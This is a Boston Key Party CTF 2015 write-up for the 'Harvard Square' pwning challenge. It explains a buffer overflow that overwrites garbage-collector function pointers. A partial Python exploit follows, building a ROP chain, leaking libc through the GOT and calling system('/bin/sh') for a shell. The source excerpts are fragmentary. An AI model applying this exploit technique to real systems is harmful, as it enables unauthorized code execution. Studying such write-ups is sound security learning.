Skip to content
Branch: master
Find file History
Fetching latest commit…
Cannot retrieve the latest commit at this time.
Type Name Latest commit message Commit time
Failed to load latest commit information.

Boston Key Party CTF 2015: Harvard Square

Category: Pwning Points: 275 Solves: 16 Description:

can you be aleet 0day broker? 2114 (libc is ubuntu adf3305fcd0345f706019cf94687d50b : 275


by 0xddaa

The problem is a game about transcation of 0days.
We can enter the password and cheat the game, but it's useless.
The game print the message:

Welcome to 0day Warz - The goal of the game is to get the $100M USD by the end of the game.You have been given a loan of $2000, with some high interest rate of 25% a day!`

The programe for the goal of game:

void play_game() {
    if (owed == 0.0) {
        if (money > 9999999)
void action_hiscore() {
    char buf[268];
  read(0, buf, 0x400);

However, if understanding the game rule, we can know the condition is impossible to reach.
So we must find another vulunerbility.
In fact, there is a bof when play_game() starting.
It cannot overflow to return address, but we can use it to change function pointers. :D

The programe use simple-gc.It's create two garbage-collectors and put function pointer exploit_free and string_free to gc.
Then, gc will trigger when we do sleep action.
We can overwrite function ptr to action_hiscore, and we can overwrite the return address.

Now, we can write the exploit.

arg1 => rdi
arg2 => rsi
arg3 => rdx

So we must find some gadget to control arguments at first.Then, we can use put() to leak arbitrary address.
There exist a little bug.... stdout dupped to socket.
We won't receive the content immediately.
To solve this bug, I return to action_hiscore() again because it has fflush() at the end of function.

After leak the address, we can calulate the address of system().
Next, We need a string of "/bin/sh".
Luckily, we can find it in libc, too.
So we can call system("/bin/sh") to get the shell.

My partitial exploit:

# leak address
raw_input("wait gdb")read_until("name? ")
pop_rdi = up64("402fc3")
got = up64("605061")
put = up64("400cd0")
payload = "a"*280 + pop_rdi + got + put + bof

# get leak and count libc
leak = read_line().strip()[::-1].encode("hex")
base = int(leak+"00", 16) - 0x54400
system = hex(base + 0x46640)[2:]
system = up64(system)
binsh = hex(base + 0x17d87b)[2:]

# getand shell out
read_until("name? ")
buf = up64("605800")
payload = "a"*280 + pop_rdi + up64(binsh) + system


flag: stay_in_school_and_dont_do_the_grugq

Other write-ups and resources

You can’t perform that action at this time.